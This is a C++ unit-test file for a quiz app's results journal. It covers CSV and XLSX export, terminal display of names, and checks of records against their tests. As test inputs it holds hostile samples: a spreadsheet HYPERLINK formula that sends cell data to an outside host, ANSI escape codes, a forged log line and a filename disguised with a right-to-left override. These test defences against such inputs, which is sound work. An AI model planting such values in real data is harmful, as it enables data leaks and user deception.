// What the teacher opens and reads: CSV cells a spreadsheet would run as
// formulas, the spreadsheet export, the terminal's view of texts from the
// folder, and records checked against their test.
#include <gtest/gtest.h>

#include <cstdio>
#include <filesystem>
#include <sstream>

#include "core_support.h"
#include "journal.h"
#include "journal_xlsx.h"

namespace {

qv::JournalRecord record(std::string taker, std::string answers, std::int32_t total,
                         std::string range) {
    qv::JournalRecord r;
    r.takenAtUnix = 1767225600;
    r.takenAt = "2026-01-01T03:00:00+03:00";
    r.taker = std::move(taker);
    r.computer = "pc";
    r.testFile = "test.tst";
    r.answers = std::move(answers);
    r.total = total;
    r.range = std::move(range);
    return r;
}

TEST(JournalExport, CsvTextCellsThatASpreadsheetWouldRunAreNeutralised) {
    const struct {
        std::string text, cell;
    } cases[] = {
        {"=HYPERLINK(\"http://x\"&A1;\"Нажмите\")", "'=HYPERLINK(\"http://x\"&A1;\"Нажмите\")"},
        {"=1+1", "'=1+1"},
        {"+7 999", "'+7 999"},
        {"-5", "'-5"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\tx", "'\tx"},
        {"\rx", "'\rx"},
        {"Аня", "Аня"},
        {"1-2", "1-2"},
        {"a=b", "a=b"},
        {"", ""},
        {"'", "'"},
    };
    std::vector<qv::JournalRecord> records;
    for (const auto& c : cases) records.push_back(record(c.text, "1", -3, "=-5-0"));
    std::ostringstream out;
    qv::writeJournalCsv(records, out);
    const std::string csv = out.str();
    std::size_t at = csv.find("\r\n") + 2;  // past the heading
    for (const auto& c : cases) {
        SCOPED_TRACE(c.text);
        // The name's cell, quoted where RFC 4180 wants it, then the number as a number.
        const std::size_t name = csv.find(',', at) + 1;
        std::string quoted = "\"";
        for (char ch : c.cell) quoted += ch == '"' ? std::string("\"\"") : std::string(1, ch);
        quoted += '"';
        const bool isQuoted = csv.compare(name, quoted.size(), quoted) == 0;
        EXPECT_TRUE(isQuoted || csv.compare(name, c.cell.size() + 1, c.cell + ",") == 0)
            << csv.substr(name, 60);
        const std::size_t total = csv.find(",-3,", name);
        EXPECT_NE(total, std::string::npos) << "numbers stay numbers";
        EXPECT_NE(csv.find(",диапазон =-5-0,", total), std::string::npos);
        at = csv.find("\r\n", total) + 2;
    }
}

TEST(JournalExport, TheTerminalShowsControlCharactersAndReorderingMarksByTheirCodes) {
    const struct {
        std::string text, shown;
    } cases[] = {
        {"Привет, 😀", "Привет, 😀"},
        {"\x1B[2J", "\\x1B[2J"},
        {"a\nquorvane: ошибок нет", "a\\x0Aquorvane: ошибок нет"},
        {"\r\t\x7F", "\\x0D\\x09\\x7F"},
        {"a\\x1B", "a\\x5Cx1B"},
        {"\xE2\x80\xAEgpj.exe", "\\u202Egpj.exe"},
        {"\xC2\x9B", "\\u009B"},
        {"\xFF\xC3", "\\xFF\\xC3"},
        {"\xED\xA0\x80", "\\xED\\xA0\\x80"},
    };
    for (const auto& c : cases) EXPECT_EQ(qv::terminalText(c.text), c.shown) << c.shown;
}

TEST(JournalExport, RecordsThatDoNotFollowFromTheirAnswersAreDoubted) {
    qvtest::TempFolder dir;
    const std::string test = dir.file("test.tst");
    qvtest::writeBytes(test, qvtest::workedExampleBytes());
    const std::string digest = qv::sha256OfFile(test);
    // The worked example: question 1 scores 2, 0, 1; question 2 scores 0, 2, 1;
    // "=0-2" and "=3-4" are its ranges.
    const struct {
        const char* name;
        qv::JournalRecord r;
        const char* doubt;
    } cases[] = {
        {"true", record("a", "12", 4, "=3-4"), ""},
        {"a total made up", record("a", "12", 999, "=3-4"), "сумма не следует из ответов"},
        {"a range made up", record("a", "22", 2, "=3-4"), "исход не следует из суммы"},
        {"too many answers", record("a", "123", 4, "=3-4"), "ответов больше"},
        {"too few answers", record("a", "1", 2, "=0-2"), "ответов меньше"},
        {"not buttons", record("a", "1x", 2, "=0-2"), "не кнопки"},
        {"a button the test does not show", record("a", "15", 2, "=0-2"), "не кнопки"},
    };
    std::vector<qv::JournalRecord> records;
    for (const auto& c : cases) {
        records.push_back(c.r);
        records.back().testSha256 = digest;
    }
    records.push_back(record("another test", "12", 999, "=3-4"));
    records.back().testSha256 = std::string(64, 'a');
    qv::checkRecordsAgainstTests(records, qv::testFilesIn(dir.path()));
    for (std::size_t i = 0; i < std::size(cases); ++i) {
        SCOPED_TRACE(cases[i].name);
        if (*cases[i].doubt)
            EXPECT_NE(records[i].doubt.find(cases[i].doubt), std::string::npos) << records[i].doubt;
        else
            EXPECT_EQ(records[i].doubt, "");
    }
    EXPECT_EQ(records.back().doubt, "") << "no test at hand, nothing to say";

    // A record in another computer's file is doubted as it is read.
    ASSERT_EQ(qv::createJournalFolder(dir.file("journal")), "");
    qv::JournalRecord foreign = record("x", "1", 2, "");
    foreign.computer = "teacher";
    ASSERT_EQ(qv::JournalWriter(dir.file("journal"), "pc-1").append(foreign), "");
    const auto read = qv::readJournalFolder(dir.file("journal"));
    ASSERT_EQ(read.records.size(), 1u);
    EXPECT_EQ(read.records[0].sourceFile, "pc-1.qvjournal");
    EXPECT_EQ(read.records[0].doubt, "запись в файле другого компьютера");
}

// A part of the workbook, as `unzip` gives it.
std::string memberOf(const std::string& book, const std::string& member) {
    std::string text;
    const std::string command = "unzip -p '" + book + "' " + member;
    if (std::FILE* p = ::popen(command.c_str(), "r")) {
        char buffer[4096];
        for (std::size_t got; (got = std::fread(buffer, 1, sizeof buffer, p)) > 0;)
            text.append(buffer, got);
        ::pclose(p);
    }
    return text;
}

TEST(JournalExport, TheSpreadsheetHasNumbersDatesAFrozenHeadingAndAColumnPerQuestion) {
    qvtest::TempFolder dir;
    const std::string book = dir.file("class.xlsx");
    std::vector<qv::JournalRecord> records = {record("=1+1", "12", 4, "=3-4"),
                                              record("Борис\x01", "213", -3, "=0-2")};
    ASSERT_EQ(qv::writeJournalXlsx(records, book), "");
    const std::string sheet = memberOf(book, "xl/worksheets/sheet1.xml");
    ASSERT_FALSE(sheet.empty()) << "unzip is needed to look inside";
    EXPECT_NE(sheet.find("ySplit=\"1\""), std::string::npos) << "the heading row is frozen";
    EXPECT_NE(sheet.find("<c r=\"G2\"><v>4</v></c>"), std::string::npos) << "a number";
    EXPECT_NE(sheet.find("<c r=\"G3\"><v>-3</v></c>"), std::string::npos);
    EXPECT_NE(sheet.find("<c r=\"N3\"><v>3</v></c>"), std::string::npos) << "question 3";
    EXPECT_NE(sheet.find("<c r=\"A2\" s=\"2\"><v>46023.125</v></c>"), std::string::npos)
        << "a date: 2026-01-01 03:00";
    EXPECT_NE(sheet.find("<t>=1+1</t>"), std::string::npos) << "a text, as typed";
    EXPECT_NE(sheet.find("Борис\xEF\xBF\xBD"), std::string::npos);

    const std::string missing = qv::writeJournalXlsx(records, dir.file("no/such/class.xlsx"));
    EXPECT_NE(missing.find("такой папки нет"), std::string::npos) << missing;
    EXPECT_EQ(qvtest::leftovers(dir).size(), 0u);
}

}  // namespace
